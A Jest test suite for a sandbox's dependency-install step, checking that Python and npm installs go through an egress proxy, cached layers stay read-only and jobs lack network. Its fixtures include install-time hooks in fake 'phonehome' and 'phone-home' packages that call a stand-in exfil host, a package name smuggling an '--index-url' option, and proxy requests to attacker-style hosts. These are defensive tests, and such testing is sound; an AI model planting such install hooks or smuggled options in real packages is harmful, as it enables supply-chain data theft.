import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { existsSync, mkdtempSync, readFileSync, statSync } from 'node:fs';
import { chmod, mkdir, readdir, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import net from 'node:net';
import path from 'node:path';
import { Language, SandboxDriver, type Dependency, type SandboxJob, type SandboxJobResult } from '@ratchet/contracts';
import { createDriver, LayerCache, RegistryProxy, type DependencyOptions, type DriverName, type Sandbox } from '../src';
import { sandboxJob } from './jobs';
import { sdist, serveNpmRegistry, servePackageIndex, wheel, type PackageIndex } from '@ratchet/testing';

// The install step for real: a PEP 503 index served here (wheels and an sdist
// built by the test), the real drivers (Docker, bubblewrap) and, when the
// host reaches it, the real npm registry through its egress proxy.
jest.setTimeout(180_000);

const ms = (duration: { seconds: number; nanos: number } | undefined) => (duration === undefined ? 0 : duration.seconds * 1000 + duration.nanos / 1e6);
const limits = { memoryBytes: 512 << 20, pids: 128, cpus: 1, timeout: { seconds: 60, nanos: 0 }, outputLimitBytes: 256 * 1024, workDirBytes: 32 << 20 };
const pytest = ['python3', '-m', 'pytest', '-q', '-p', 'no:cacheprovider', '--junitxml=/tmp/report.xml', 'tests'];
let counter = 0;

function pythonJob(dependencies: readonly Dependency[], files: Record<string, string>, argv: readonly string[] = pytest, overrides: Partial<SandboxJob> = {}): SandboxJob {
  counter += 1;
  return sandboxJob(`deps-test-${process.pid}-${counter}`, argv, files, { limits, dependencies: [...dependencies], testReportPath: argv === pytest ? '/tmp/report.xml' : '', protectedPaths: Object.keys(files), ...overrides });
}

const greeterTest = { 'tests/test_greet.py': 'from greeter import greet\n\n\ndef test_greets():\n    assert greet("ada") == "Hello, Ada!"\n' };
const greeter: Dependency[] = [{ name: 'greeter', versionSpec: '>=1.0' }];

let index: PackageIndex;
const root = mkdtempSync(path.join(tmpdir(), 'ratchet-deps-test-'));
const made: Sandbox[] = [];

/** A driver with the dependency step over a cache of its own under this file's directory. */
async function sandboxFor(driver: DriverName, name: string, settings: Partial<DependencyOptions> = {}): Promise<{ sandbox: Sandbox; cache: string }> {
  const cache = path.join(root, name);
  const sandbox = createDriver({
    driver,
    runnerId: `deps-test-${name}`,
    dependencies: {
      cacheDirectory: cache,
      timeoutSeconds: 60,
      maxLayerMegabytes: 64,
      python: { indexUrl: index.url, extraHosts: [] },
      npm: { registry: 'https://registry.npmjs.org', extraHosts: [] },
      ...settings,
    },
  });
  made.push(sandbox);
  return { sandbox, cache };
}

beforeAll(async () => {
  // bwrap runs sandboxes as host uid 10001, which must pass through the cache's parents.
  await chmod(root, 0o755);
  const phoneHome = await sdist('phonehome', '1.0', {
    'pyproject.toml': '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n',
    // An install-time step that reaches for a host that is not the registry (through the proxy it was given, as urllib does).
    'backend.py': 'import urllib.request\n\nurllib.request.urlopen("http://exfil.example:8080/collect", timeout=10).read()\n',
  });
  index = await servePackageIndex(
    {
      tinyhelper: [wheel('tinyhelper', '1.0', { 'tinyhelper/__init__.py': 'def capitalise(text):\n    return text[:1].upper() + text[1:]\n' })],
      greeter: [wheel('greeter', '1.0', { 'greeter/__init__.py': 'from tinyhelper import capitalise\n\n\ndef greet(name):\n    return "Hello, %s!" % capitalise(name)\n' }, ['tinyhelper>=1.0'])],
      // 16 MiB of zeros: a small wheel, a large install.
      bigpkg: [wheel('bigpkg', '1.0', { 'bigpkg/__init__.py': '', 'bigpkg/blob.bin': Buffer.alloc(16 << 20) })],
      phonehome: [phoneHome],
    },
    { hang: ['slowpkg'] },
  );
});

afterAll(async () => {
  await Promise.all(made.map((sandbox) => sandbox.close()));
  await index?.close();
  await rm(root, { recursive: true, force: true });
});

describe('dependencies on the Docker driver, from a local Python index', () => {
  let docker: Sandbox;
  let cache: string;
  beforeAll(async () => {
    ({ sandbox: docker, cache } = await sandboxFor('docker', 'docker'));
  });

  it('installs a package and what it depends on into a layer, and the job imports it from /deps', async () => {
    const result = await docker.run(pythonJob(greeter, greeterTest));
    expect(result.install).toMatchObject({ cached: false, error: '', resolved: ['greeter==1.0', 'tinyhelper==1.0'], refusedHosts: [] });
    expect(result.install!.sizeBytes).toBeGreaterThan(0);
    expect(result.testReport).toMatchObject({ parsed: true, total: 1, passed: 1 });
    expect(result.exitCode).toBe(0);
    const layer = path.join(cache, 'layers', result.install!.layerKey);
    expect(JSON.parse(readFileSync(path.join(layer, 'layer.json'), 'utf8'))).toMatchObject({ key: result.install!.layerKey, ecosystem: 'python', requirements: ['greeter>=1.0'] });
    // Readable by the sandbox user, writable by the runner only.
    expect(statSync(layer).mode & 0o777).toBe(0o755);
    expect(statSync(path.join(layer, 'python', 'greeter', '__init__.py')).mode & 0o777).toBe(0o644);
    console.log(`first install of greeter + tinyhelper (docker): ${Math.round(ms(result.install!.duration))} ms`);
  });

  it('reuses the layer for the same requirements, however they are spelt, and installs nothing', async () => {
    const before = index.requests.length;
    const started = performance.now();
    const result = await docker.run(pythonJob([{ name: 'Greeter', versionSpec: ' >= 1.0 ' }], greeterTest));
    expect(result.install).toMatchObject({ cached: true, error: '', resolved: ['greeter==1.0', 'tinyhelper==1.0'] });
    expect(result.testReport).toMatchObject({ parsed: true, passed: 1 });
    expect(index.requests.length).toBe(before);
    console.log(`cached layer (docker): job with dependencies ${Math.round(performance.now() - started)} ms in all`);
  });

  it('builds a layer once for jobs that need it at the same time', async () => {
    const before = index.requests.filter((request) => request === '/simple/tinyhelper/').length;
    const job = () => pythonJob([{ name: 'tinyhelper', versionSpec: '' }], { 'tests/test_helper.py': 'from tinyhelper import capitalise\n\n\ndef test_capitalises():\n    assert capitalise("x") == "X"\n' });
    const results = await Promise.all([docker.run(job()), docker.run(job())]);
    for (const result of results) expect(result.testReport).toMatchObject({ parsed: true, passed: 1 });
    expect(results[0]!.install!.layerKey).toBe(results[1]!.install!.layerKey);
    expect(index.requests.filter((request) => request === '/simple/tinyhelper/').length - before).toBe(1);
  });

  it('gives the job no network and a read-only layer, and no proxy settings', async () => {
    const probe = [
      'import os, socket',
      `for target in [("127.0.0.1", ${index.port}), ("127.0.0.1", 3128), ("1.1.1.1", 443)]:`,
      '    try:',
      '        socket.create_connection(target, timeout=3)',
      '        print("CONNECTED", target)',
      '    except OSError as error:',
      '        print("no route", target, error)',
      'print("socket present:", os.path.exists("/run/ratchet-proxy/proxy.sock"))',
      'print("proxy variables:", [name for name in os.environ if "proxy" in name.lower()])',
      'try:',
      '    open("/deps/python/planted.py", "w")',
      '    print("WROTE")',
      'except OSError as error:',
      '    print("read-only:", error.strerror)',
    ].join('\n');
    const result = await docker.run(pythonJob(greeter, { 'probe.py': probe }, ['python3', 'probe.py']));
    const output = result.stdout.toString();
    expect(result.install).toMatchObject({ cached: true, error: '' });
    expect(output).not.toContain('CONNECTED');
    expect(output).toContain('socket present: False');
    expect(output).toContain('proxy variables: []');
    expect(output).toMatch(/read-only: Read-only file system/);
  });

  it('says which package does not exist, and runs none of the commands', async () => {
    const result = await docker.run(pythonJob([{ name: 'nosuchpkg', versionSpec: '' }], greeterTest, ['sh', '-c', 'echo RAN']));
    expect(result.install!.error).toMatch(/the package nosuchpkg was not found on the index http:\/\/127\.0\.0\.1:\d+\/simple/);
    expect(result.commandResults).toEqual([]);
    expect(result.stdout.toString()).not.toContain('RAN');
    expect(result.stderr.toString()).toContain('could not be installed');
    expect(result.install!.log).toContain('No matching distribution found for nosuchpkg');
  });

  it('says which version cannot be resolved', async () => {
    const result = await docker.run(pythonJob([{ name: 'tinyhelper', versionSpec: '>=99' }], greeterTest));
    expect(result.install!.error).toMatch(/no version of tinyhelper matches >=99 .*the index has 1\.0/);
    expect(result.testReport).toMatchObject({ parsed: false });
  });

  it('refuses a dependency that is not a package name before installing anything', async () => {
    const result = await docker.run(pythonJob([{ name: 'greeter --index-url http://evil.example/', versionSpec: '' }], greeterTest));
    expect(result.install!.error).toMatch(/is not a valid Python package name/);
  });

  it('fails with the refused host when a package\'s build reaches for another host', async () => {
    const result = await docker.run(pythonJob([{ name: 'phonehome', versionSpec: '' }], greeterTest));
    expect(result.install!.refusedHosts).toEqual(['exfil.example:8080']);
    expect(result.install!.error).toMatch(/tried to reach exfil\.example:8080, which is not a configured registry.*phonehome/);
    expect(existsSync(path.join(cache, 'layers', result.install!.layerKey))).toBe(false);
  });

  it('says the registry did not answer when it is down', async () => {
    // A port that was just free: nothing listens there.
    const closed = net.createServer();
    await new Promise<void>((resolve) => closed.listen(0, '127.0.0.1', resolve));
    const port = (closed.address() as net.AddressInfo).port;
    await new Promise((resolve) => closed.close(resolve));
    const { sandbox } = await sandboxFor('docker', 'down', { python: { indexUrl: `http://127.0.0.1:${port}/simple`, extraHosts: [] } });
    const result = await sandbox.run(pythonJob(greeter, greeterTest));
    expect(result.install!.error).toBe(`the registry http://127.0.0.1:${port}/simple did not answer (127.0.0.1:${port}: ECONNREFUSED); check sandbox.dependencies.python.indexUrl, or try again when it is up`);
  });

  it('stops an install at its time limit', async () => {
    const { sandbox } = await sandboxFor('docker', 'slow', { timeoutSeconds: 3 });
    const started = performance.now();
    const result = await sandbox.run(pythonJob([{ name: 'slowpkg', versionSpec: '' }], greeterTest));
    expect(result.install!.error).toBe('the install timed out after 3 s (sandbox.dependencies.timeoutSeconds)');
    expect(performance.now() - started).toBeLessThan(20_000);
  });

  it('stops an install at its size limit', async () => {
    const { sandbox } = await sandboxFor('docker', 'small', { maxLayerMegabytes: 8 });
    const result = await sandbox.run(pythonJob([{ name: 'bigpkg', versionSpec: '' }], greeterTest));
    expect(result.install!.error).toMatch(/^the install exceeded the size limit of 8 MB \(sandbox\.dependencies\.maxLayerMegabytes\)/);
  });
});

describe('dependencies on the bubblewrap driver, from a local Python index', () => {
  let bwrap: Sandbox;
  beforeAll(async () => {
    ({ sandbox: bwrap } = await sandboxFor('bwrap', 'bwrap'));
  });

  it('installs, caches and mounts the layer read-only, and the job has no network', async () => {
    const first = await bwrap.run(pythonJob(greeter, greeterTest));
    expect(first.install).toMatchObject({ cached: false, error: '', resolved: ['greeter==1.0', 'tinyhelper==1.0'] });
    expect(first.testReport).toMatchObject({ parsed: true, total: 1, passed: 1 });
    expect(first.driver).toBe(SandboxDriver.SANDBOX_DRIVER_BUBBLEWRAP);
    const started = performance.now();
    const probe = `import socket\ntry:\n    socket.create_connection(("127.0.0.1", ${index.port}), timeout=3)\n    print("CONNECTED")\nexcept OSError as error:\n    print("no route", error)\ntry:\n    open("/deps/python/planted.py", "w")\n    print("WROTE")\nexcept OSError as error:\n    print("read-only:", error.strerror)\nimport greeter\nprint(greeter.greet("bob"))\n`;
    const second = await bwrap.run(pythonJob(greeter, { 'probe.py': probe }, ['python3', 'probe.py']));
    expect(second.install).toMatchObject({ cached: true, error: '' });
    expect(second.stdout.toString()).toMatch(/no route[\s\S]*read-only: Read-only file system\nHello, Bob!/);
    console.log(`first install (bwrap): ${Math.round(ms(first.install!.duration))} ms; cached job: ${Math.round(performance.now() - started)} ms in all`);
  });

  it('fails with the refused host when a build reaches out, and says which package does not exist', async () => {
    const [phoning, missing] = await Promise.all([bwrap.run(pythonJob([{ name: 'phonehome', versionSpec: '' }], greeterTest)), bwrap.run(pythonJob([{ name: 'nosuchpkg', versionSpec: '' }], greeterTest))]);
    expect(phoning.install!.refusedHosts).toEqual(['exfil.example:8080']);
    expect(phoning.install!.error).toMatch(/tried to reach exfil\.example:8080/);
    expect(missing.install!.error).toMatch(/the package nosuchpkg was not found/);
  });
});

describe('npm dependencies from a local registry', () => {
  let registry: PackageIndex;
  let docker: Sandbox;
  beforeAll(async () => {
    registry = await serveNpmRegistry([
      { name: 'tiny-pad', version: '1.0.0', files: { 'index.js': "module.exports = (text, width) => String(text).padStart(width, '.');\n" } },
      { name: 'tiny-pad', version: '1.1.0', files: { 'index.js': "module.exports = (text, width) => String(text).padStart(width, '-');\n" } },
      {
        name: 'phone-home',
        version: '1.0.0',
        files: {
          'index.js': 'module.exports = 1;\n',
          // Reaches out through the proxy it was given, as curl and most HTTP clients do, and carries on when refused.
          'install.js': "const http = require('node:http');\nconst proxy = new URL(process.env.HTTP_PROXY);\nhttp.get({ host: proxy.hostname, port: proxy.port, path: 'http://exfil.example:8080/collect' }, (response) => { console.log('status', response.statusCode); response.resume(); }).on('error', (error) => console.log('error', error.message));\n",
        },
        scripts: { postinstall: 'node install.js' },
      },
    ]);
    ({ sandbox: docker } = await sandboxFor('docker', 'npm-local', { npm: { registry: registry.url, extraHosts: [] } }));
  });
  afterAll(() => registry.close());

  const padFiles = {
    'tests/a.test.js': "const test = require('node:test');\nconst assert = require('node:assert');\nconst pad = require('tiny-pad');\ntest('require', () => assert.strictEqual(pad('x', 3), '..x'));\n",
    'tests/b.test.mjs': "import test from 'node:test';\nimport assert from 'node:assert';\nimport pad from 'tiny-pad';\ntest('import', () => assert.strictEqual(pad('y', 2), '.y'));\n",
  };

  it('installs the version the range picks, and require and import find it', async () => {
    const result = await docker.run(
      pythonJob([{ name: 'tiny-pad', versionSpec: '~1.0.0' }], padFiles, ['node', '--test', '--test-reporter=junit', '--test-reporter-destination=/tmp/report.xml', 'tests/a.test.js', 'tests/b.test.mjs'], {
        language: Language.LANGUAGE_JAVASCRIPT,
        testReportPath: '/tmp/report.xml',
      }),
    );
    expect(result.install).toMatchObject({ cached: false, error: '', resolved: ['tiny-pad==1.0.0'] });
    expect(result.testReport).toMatchObject({ parsed: true, total: 2, passed: 2 });
  });

  it('fails an install whose script reached for another host, even though the script carried on', async () => {
    const result = await docker.run(pythonJob([{ name: 'phone-home', versionSpec: '' }], padFiles, ['node', '--test'], { language: Language.LANGUAGE_JAVASCRIPT }));
    expect(result.install!.refusedHosts).toEqual(['exfil.example:8080']);
    expect(result.install!.error).toMatch(/^the install tried to reach exfil\.example:8080, which is not a configured registry/);
    expect(result.commandResults).toEqual([]);
  });
});

describe('npm dependencies from the real registry', () => {
  let reachable: string | undefined;
  beforeAll(async () => {
    reachable = await fetch('https://registry.npmjs.org/is-odd', { signal: AbortSignal.timeout(15_000) }).then(
      (response) => (response.ok ? undefined : `registry.npmjs.org answered ${response.status}`),
      (error: unknown) => `registry.npmjs.org is unreachable from this host (${(error as Error).message})`,
    );
    if (reachable !== undefined) console.warn(`skipping the npm registry tests: ${reachable}`);
  });

  const nodeFiles = {
    'tests/a.test.js': "const test = require('node:test');\nconst assert = require('node:assert');\nconst isOdd = require('is-odd');\ntest('require', () => assert.strictEqual(isOdd(3), true));\n",
    'tests/b.test.mjs': "import test from 'node:test';\nimport assert from 'node:assert';\nimport isOdd from 'is-odd';\ntest('import', () => assert.strictEqual(isOdd(4), false));\n",
    'tests/c.test.ts': "import test from 'node:test';\nimport assert from 'node:assert';\nimport isOdd from 'is-odd';\nconst seven: number = 7;\ntest('typescript', () => assert.strictEqual(isOdd(seven), true));\n",
  };
  const nodeJob = () =>
    pythonJob([{ name: 'is-odd', versionSpec: '^3.0.1' }], nodeFiles, ['node', '--test', '--test-concurrency=1', '--test-reporter=junit', '--test-reporter-destination=/tmp/report.xml', 'tests/a.test.js', 'tests/b.test.mjs', 'tests/c.test.ts'], {
      language: Language.LANGUAGE_TYPESCRIPT,
      testReportPath: '/tmp/report.xml',
    });
  const caFile = process.env['NODE_EXTRA_CA_CERTS'] || undefined;

  it.each(['docker', 'bwrap'] as const)('installs a package through the proxy, and require, import and TypeScript find it (%s)', async (driver) => {
    if (reachable !== undefined) {
      console.warn(`skipped: ${reachable}`);
      return;
    }
    const { sandbox } = await sandboxFor(driver, `npm-${driver}`, caFile === undefined ? {} : { caFile });
    const first: SandboxJobResult = await sandbox.run(nodeJob());
    expect(first.install).toMatchObject({ cached: false, error: '', refusedHosts: [] });
    expect(first.install!.resolved).toEqual(expect.arrayContaining([expect.stringMatching(/^is-odd==3\./), expect.stringMatching(/^is-number==/)]));
    expect(first.testReport).toMatchObject({ parsed: true, total: 3, passed: 3 });
    const second = await sandbox.run(nodeJob());
    expect(second.install).toMatchObject({ cached: true });
    expect(second.testReport).toMatchObject({ parsed: true, passed: 3 });
    console.log(`npm install of is-odd (${driver}): ${Math.round(ms(first.install!.duration))} ms`);
  });

  it('says which npm package does not exist and which version cannot be resolved', async () => {
    if (reachable !== undefined) {
      console.warn(`skipped: ${reachable}`);
      return;
    }
    const { sandbox } = await sandboxFor('docker', 'npm-docker', caFile === undefined ? {} : { caFile });
    const [missing, unresolvable] = await Promise.all([
      sandbox.run(pythonJob([{ name: 'ratchet-no-such-package-4f9c2a', versionSpec: '' }], nodeFiles, ['node', '--test'], { language: Language.LANGUAGE_JAVASCRIPT })),
      sandbox.run(pythonJob([{ name: 'is-odd', versionSpec: '^99' }], nodeFiles, ['node', '--test'], { language: Language.LANGUAGE_JAVASCRIPT })),
    ]);
    expect(missing.install!.error).toMatch(/the package ratchet-no-such-package-4f9c2a was not found on the registry https:\/\/registry\.npmjs\.org \(npm E404\)/);
    expect(unresolvable.install!.error).toMatch(/no version of is-odd matches \^99/);
  });
});

describe('RegistryProxy', () => {
  /** Sends `request` to the proxy's socket and returns all it answered. */
  const ask = (socketPath: string, request: string) =>
    new Promise<string>((resolve, reject) => {
      const chunks: Buffer[] = [];
      const socket = net.connect(socketPath, () => socket.write(request));
      socket.on('data', (chunk) => {
        chunks.push(chunk);
        if (Buffer.concat(chunks).toString().includes('echo: ping')) socket.end();
      });
      socket.on('end', () => resolve(Buffer.concat(chunks).toString()));
      socket.on('error', reject);
    });

  it('tunnels to an allowed host:port only, and records what it refused and what did not answer', async () => {
    const echo = net.createServer((socket) => socket.once('data', (data) => socket.end(`echo: ${data.toString()}`)));
    await new Promise<void>((resolve) => echo.listen(0, '127.0.0.1', resolve));
    const port = (echo.address() as net.AddressInfo).port;
    const directory = path.join(root, 'proxy-test');
    await mkdir(directory);
    const proxy = await RegistryProxy.start(path.join(directory, 'proxy.sock'), [`127.0.0.1:${port}`, '127.0.0.1:9']);
    try {
      expect(await ask(path.join(directory, 'proxy.sock'), `CONNECT 127.0.0.1:${port} HTTP/1.1\r\nHost: 127.0.0.1:${port}\r\n\r\nping`)).toBe('HTTP/1.1 200 Connection Established\r\n\r\necho: ping');
      expect(await ask(path.join(directory, 'proxy.sock'), 'CONNECT Evil.Example:443 HTTP/1.1\r\nHost: evil.example:443\r\n\r\n')).toMatch(/^HTTP\/1\.1 403 Forbidden/);
      expect(await ask(path.join(directory, 'proxy.sock'), 'GET http://other.example/steal HTTP/1.1\r\nHost: other.example\r\nConnection: close\r\n\r\n')).toMatch(/^HTTP\/1\.1 403 Forbidden/);
      expect(await ask(path.join(directory, 'proxy.sock'), 'CONNECT 127.0.0.1:9 HTTP/1.1\r\nHost: 127.0.0.1:9\r\n\r\n')).toMatch(/^HTTP\/1\.1 502 Bad Gateway/);
      expect([...proxy.refused]).toEqual(['evil.example:443', 'other.example:80']);
      expect([...proxy.unreachable.keys()]).toEqual(['127.0.0.1:9']);
    } finally {
      await proxy.close();
      echo.close();
    }
  });
});

describe('LayerCache', () => {
  it('keeps the first of two copies of one layer committed at the same time, and drops the other', async () => {
    const cache = new LayerCache(path.join(root, 'race'));
    await cache.prepare();
    const key = 'f'.repeat(64);
    const manifest = (copy: string) => ({ layout: 1, key, ecosystem: 'python' as const, requirements: [copy], resolved: [], sizeBytes: 0, image: 'i', registry: 'r', createdAt: new Date().toISOString() });
    const [one, two] = [await cache.stage(key), await cache.stage(key)];
    await mkdir(path.join(one, 'python'));
    await writeFile(path.join(two, 'marker'), 'two');
    const results = await Promise.all([cache.commit(one, manifest('one')), cache.commit(two, manifest('two'))]);
    expect(results[0]!.requirements).toEqual(results[1]!.requirements);
    expect(await cache.read(key)).toEqual(results[0]);
    expect(await readdir(path.join(root, 'race', 'staging'))).toEqual([]);
  });
});
